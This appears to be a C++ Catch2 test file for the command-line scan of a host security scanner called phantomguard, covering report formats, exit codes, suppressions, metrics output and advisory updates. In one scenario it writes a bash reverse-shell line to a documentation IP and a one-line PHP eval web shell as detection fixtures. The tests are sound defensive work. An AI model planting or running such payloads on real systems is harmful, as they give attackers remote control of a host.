// SPDX-License-Identifier: Apache-2.0
// phantomguard scan: report formats, --fail-on, --only, --output, through the real binary.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include <unistd.h>

#include <nlohmann/json.hpp>

#include "api_support.hpp"
#include "cli_process.hpp"

using namespace pg::test;

namespace {

std::vector<nlohmann::json> jsonl(const std::string& text) {
  std::vector<nlohmann::json> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);)
    out.push_back(nlohmann::json::parse(line));
  return out;
}

std::size_t count_rule(const std::vector<nlohmann::json>& findings, const std::string& rule) {
  std::size_t n = 0;
  for (const auto& f : findings)
    n += f["rule"] == rule ? 1 : 0;
  return n;
}

} // namespace

SCENARIO("scan reports findings as JSON Lines and exits by severity") {
  GIVEN("a pipeline whose jsonl sink writes to /dev/full") {
    auto r = run_cli({"scan", "--config", "configs/scan_devfull.toml", "--format", "jsonl"});
    THEN("the sink's failure is one high finding, and the default --fail-on high exits 1") {
      CHECK(r.code == 1);
      const auto findings = jsonl(r.out);
      CHECK(count_rule(findings, "engine.sink_write_failed") == 1);
      for (const auto& f : findings) {
        if (f["rule"] != "engine.sink_write_failed")
          continue;
        CHECK(f["severity"] == "high");
        CHECK(f["entity"]["path"] == "/dev/full");
        CHECK(f["analyzer"] == "full");
      }
      // The console sink was replaced by the report: nothing but JSON on stdout.
      CHECK(r.out.find("SEVERITY") == std::string::npos);
      // The summary goes to stderr.
      CHECK(r.err.find("scan: ") != std::string::npos);
      CHECK(r.err.find("COMPONENT") != std::string::npos);
    }
  }
  GIVEN("the same pipeline with other --fail-on thresholds") {
    THEN("critical exits 0, medium exits 1") {
      CHECK(run_cli({"scan", "-c", "configs/scan_devfull.toml", "--fail-on", "critical", "-q"})
                .code == 0);
      CHECK(
          run_cli({"scan", "-c", "configs/scan_devfull.toml", "--fail-on", "medium", "-q"}).code ==
          1);
    }
  }
  GIVEN("a pipeline that finds nothing") {
    auto r = run_cli({"scan", "-c", "configs/scan_quiet.toml", "--format", "jsonl"});
    THEN("no output, exit 0, and a summary naming the source") {
      CHECK(r.code == 0);
      CHECK(r.out.empty());
      CHECK(r.err.rfind("scan: 0 findings from 1 component in ", 0) == 0);
      CHECK(r.err.find("\nprocfs ") != std::string::npos);
    }
    THEN("--quiet drops the summary") {
      auto q = run_cli({"scan", "-c", "configs/scan_quiet.toml", "--format", "jsonl", "--quiet"});
      CHECK(q.code == 0);
      CHECK(q.err.empty());
    }
    THEN("the table format prints the count line") {
      auto t = run_cli({"scan", "-c", "configs/scan_quiet.toml", "-q"});
      CHECK(t.code == 0);
      CHECK(t.out.find("0 findings") != std::string::npos);
    }
  }
}

SCENARIO("scan --only and --output") {
  THEN("--only with an unknown name is a usage error") {
    auto r = run_cli({"scan", "-c", "configs/scan_devfull.toml", "--only", "procfs,nosuch"});
    CHECK(r.code == 2);
    CHECK(r.err == "phantomguard scan: --only names unknown component 'nosuch' (known: procfs)\n");
  }
  THEN("--only naming a sink is a usage error") {
    auto r = run_cli({"scan", "-c", "configs/scan_devfull.toml", "--only", "full"});
    CHECK(r.code == 2);
    CHECK(r.err.find("'full' is a sink") != std::string::npos);
  }
  THEN("--only keeping the source still feeds every sink") {
    auto r = run_cli(
        {"scan", "-c", "configs/scan_devfull.toml", "--only", "procfs", "--format", "jsonl", "-q"});
    CHECK(r.code == 1);
    CHECK(count_rule(jsonl(r.out), "engine.sink_write_failed") == 1);
  }
  THEN("--output writes the report to the file, not to stdout") {
    char tmpl[] = "/tmp/pg_cli_report_XXXXXX";
    const int fd = ::mkstemp(tmpl);
    ::close(fd);
    auto r = run_cli(
        {"scan", "-c", "configs/scan_devfull.toml", "--format", "json", "-q", "--output", tmpl});
    CHECK(r.code == 1);
    CHECK(r.out.empty());
    auto report = nlohmann::json::parse(slurp(tmpl));
    REQUIRE(report.is_array());
    std::size_t failed = 0;
    for (const auto& f : report)
      failed += f["rule"] == "engine.sink_write_failed" ? 1 : 0;
    CHECK(failed == 1);
    ::unlink(tmpl);
  }
  THEN("an --output that cannot be written is refused before the scan") {
    auto r = run_cli({"scan", "-c", "configs/scan_quiet.toml", "--output", "/nonexistent/r.txt"});
    CHECK(r.code == 2);
    CHECK(r.err == "phantomguard scan: cannot write --output /nonexistent/r.txt: No such file or "
                   "directory\n");
  }
  THEN("a broken config is a config error with the diagnostics on stderr") {
    auto r = run_cli({"scan", "-c", "configs/broken.toml"});
    CHECK(r.code == 2);
    CHECK(r.err == golden("validate_broken.stderr", r.err));
  }
}

SCENARIO("scan --metrics-file writes node_exporter's textfile format, whole or not at all") {
  char tmpl[] = "/tmp/pg_cli_metrics_XXXXXX";
  const std::string dir = ::mkdtemp(tmpl);
  const std::string file = dir + "/phantomguard.prom";
  THEN("the file holds the scan's metrics, promtool accepts it, no temporary file is left") {
    auto r = run_cli({"scan", "-c", "configs/scan_quiet.toml", "--metrics-file", file, "-q"});
    CHECK(r.code == 0);
    std::ifstream in(file);
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    CHECK(text.find("phantomguard_component_events_out_total{component=\"procfs\"} ") !=
          std::string::npos);
    CHECK(text.find("phantomguard_scan_duration_seconds ") != std::string::npos);
    CHECK(text.find("phantomguard_scan_findings{severity=\"high\"} 0") != std::string::npos);
    CHECK(text.find("process_") == std::string::npos); // the scan's process is gone by then
    std::size_t entries = 0;
    for ([[maybe_unused]] const auto& e : std::filesystem::directory_iterator(dir))
      ++entries;
    CHECK(entries == 1);
    if (std::filesystem::exists("/usr/bin/promtool"))
      CHECK(std::system(("/usr/bin/promtool check metrics < " + file + " > /dev/null 2>&1").c_str()) ==
            0);
  }
  THEN("a folder that cannot be written is a usage error before the scan") {
    auto r = run_cli({"scan", "-c", "configs/scan_quiet.toml", "--metrics-file",
                      "/nonexistent-dir/x.prom", "-q"});
    CHECK(r.code == 2);
    CHECK(r.err == "phantomguard scan: cannot write --metrics-file /nonexistent-dir/x.prom: No such "
                   "file or directory\n");
  }
  std::filesystem::remove_all(dir);
}

SCENARIO("[[suppress]] keeps a documented finding out of the report, counts it, and an expired entry is a finding") {
  char tmpl[] = "/tmp/pg_cli_suppress_XXXXXX";
  std::string dir = ::mkdtemp(tmpl);
  // A program in a temporary directory: process.exe_in_temp, high.
  std::string dropped = dir + "/dropped-tool";
  std::filesystem::copy_file("/bin/sleep", dropped);
  cli_process sleeper({dropped, "30"}, cli_process::raw_command);
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  auto config = [&](const std::string& expires) {
    std::string path = dir + "/pg.toml";
    std::ofstream(path) << "[engine]\nstate_dir = \"" << dir << "/state\"\n"
                        << "[sources.procfs]\ntype = \"procfs\"\n"
                           "[analyzers.process]\ntype = \"process\"\ninputs = [\"procfs\"]\n"
                           "[sinks.c]\ntype = \"console\"\ninputs = [\"process\"]\n\n"
                           "[[suppress]]\nrule = \"process.exe_in_temp\"\n"
                           "entity = { exe = \""
                        << dir << "/*\" }\nreason = \"a tool the test dropped on purpose\"\n"
                        << expires;
    return path;
  };
  WHEN("the entry holds") {
    auto cfg = config("expires = 2099-01-01\n");
    auto v = run_cli({"validate", "--config", cfg});
    CHECK(v.code == 0);
    CHECK(v.out.find("1 suppression)") != std::string::npos);
    CHECK(v.out.find("suppress process.exe_in_temp exe=" + dir + "/*") != std::string::npos);
    CHECK(v.out.find("a tool the test dropped on purpose") != std::string::npos);
    auto r = run_cli({"scan", "--config", cfg, "--format", "jsonl", "--metrics-file",
                      dir + "/m.prom"});
    INFO(r.out << r.err);
    CHECK(r.out.find(dropped) == std::string::npos); // not in the report
    CHECK(r.err.find("suppressed by [[suppress]]") != std::string::npos);
    CHECK(slurp(dir + "/m.prom").find("phantomguard_findings_suppressed_total{component=\"process\"}") !=
          std::string::npos);
  }
  WHEN("the entry expired") {
    auto cfg = config("expires = 2020-01-01\n");
    auto v = run_cli({"validate", "--config", cfg});
    CHECK(v.out.find("1 expired") != std::string::npos);
    CHECK(v.out.find("(EXPIRED 2020-01-01") != std::string::npos);
    auto r = run_cli({"scan", "--config", cfg, "--format", "jsonl"});
    INFO(r.out << r.err);
    CHECK(r.code == 1); // the finding is back, high
    CHECK(r.out.find(dropped) != std::string::npos);
    CHECK(r.out.find("\"rule\":\"engine.suppression_expired\"") != std::string::npos);
  }
  sleeper.signal(SIGKILL);
  std::error_code ec;
  std::filesystem::remove_all(dir, ec);
}

SCENARIO("the default config's yara analyzer finds tools dropped in /tmp and /dev/shm") {
  // The embedded default config, as `make run` uses it, with its built-in rule pack.
  char tmpl[] = "/tmp/pg-yara-drop-XXXXXX";
  REQUIRE(::mkdtemp(tmpl) != nullptr);
  const std::string dir = tmpl;
  const std::string shell = dir + "/update.sh";
  std::ofstream(shell) << "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.50/9001 0>&1\n";
  const std::string shm = "/dev/shm/pg-yara-drop-" + std::to_string(::getpid()) + ".php";
  std::ofstream(shm) << "<?php @eval($_POST['x']); ?>\n";
  auto r = run_cli({"scan", "--only", "yara", "--format", "jsonl"});
  INFO(r.err);
  CHECK(r.code == 1);
  auto rule_for = [&](const std::string& path) {
    std::istringstream lines(r.out);
    std::string line;
    while (std::getline(lines, line)) {
      auto j = nlohmann::json::parse(line, nullptr, false);
      if (j.is_object() && j["rule"] == "yara.match" && j["entity"].value("path", "") == path)
        return j["evidence"].value("rule", "");
    }
    return std::string();
  };
  CHECK(rule_for(shell) == "PG_Reverse_Shell_Script");
  CHECK(rule_for(shm) == "PG_PHP_Webshell");
  std::error_code ec;
  std::filesystem::remove_all(dir, ec);
  std::filesystem::remove(shm, ec);
}

SCENARIO("phantomguard vuln update keeps a config's advisory file current from a real server") {
  // Python's http.server: a second, independent server implementation, which dates its files
  // with Last-Modified and answers If-Modified-Since with 304 (it sends no ETag).
  char tmpl[] = "/tmp/pg-vuln-cli-XXXXXX";
  REQUIRE(::mkdtemp(tmpl) != nullptr);
  const std::string dir = tmpl;
  std::filesystem::create_directories(dir + "/www");
  REQUIRE(std::system(("cd " PG_SOURCE_DIR "/tests/vuln/fixtures/osv && python3 -m zipfile -c " +
                       dir + "/www/all.zip *.json >/dev/null")
                          .c_str()) == 0);
  const int port = pg::test::free_port();
  pg::test::cli_process server({"/usr/bin/python3", "-m", "http.server", std::to_string(port), "--bind",
                                "127.0.0.1", "--directory", dir + "/www"},
                               pg::test::cli_process::raw_command);
  const std::string url = "http://127.0.0.1:" + std::to_string(port) + "/all.zip";
  for (int i = 0; i < 200 && std::system(("curl -sf -o /dev/null " + url).c_str()) != 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  const std::string cfg = dir + "/pg.toml";
  std::ofstream(cfg) << "[engine]\nstate_dir = \"" << dir << "/state\"\n"
                     << "[analyzers.vuln]\ntype = \"vuln\"\nadvisories = \"" << dir
                     << "/osv/debian.zip\"\nupdate_url = \"" << url
                     << "\"\nmax_age = \"2d\"\nschedule = \"0 3 * * *\"\n"
                     << "[sinks.console]\ntype = \"console\"\ninputs = [\"vuln\"]\n";
  auto v = run_cli({"validate", "--config", cfg});
  INFO(v.out << v.err);
  CHECK(v.code == 0);
  auto first = run_cli({"vuln", "update", "--config", cfg});
  INFO(first.out << first.err);
  CHECK(first.code == 0);
  CHECK(first.out.find("updated " + dir + "/osv/debian.zip: 9 advisories") != std::string::npos);
  auto second = run_cli({"vuln", "update", "--config", cfg});
  CHECK(second.code == 0);
  CHECK(second.out.find("up to date") != std::string::npos);
  // The scan reads what the update installed.
  auto scan = run_cli({"vuln", "--advisories", dir + "/osv/debian.zip"});
  CHECK(scan.err.find("9 advisories") != std::string::npos);
  server.signal(SIGTERM);
  server.wait();
  // The server is gone: the update fails, says so, and the file stays.
  auto down = run_cli({"vuln", "update", "--config", cfg, "--force", "--timeout", "5s"});
  CHECK(down.code == 1);
  CHECK(down.err.find("kept the current " + dir + "/osv/debian.zip") != std::string::npos);
  CHECK(std::filesystem::exists(dir + "/osv/debian.zip"));
  // A config without a vuln analyzer needs --output.
  std::ofstream(dir + "/novuln.toml") << "[sources.p]\ntype = \"process_snapshot\"\n";
  auto none = run_cli({"vuln", "update", "--config", dir + "/novuln.toml"});
  CHECK(none.code == 2);
  CHECK(none.err.find("has no analyzer of type \"vuln\"") != std::string::npos);
  std::error_code ec;
  std::filesystem::remove_all(dir, ec);
}
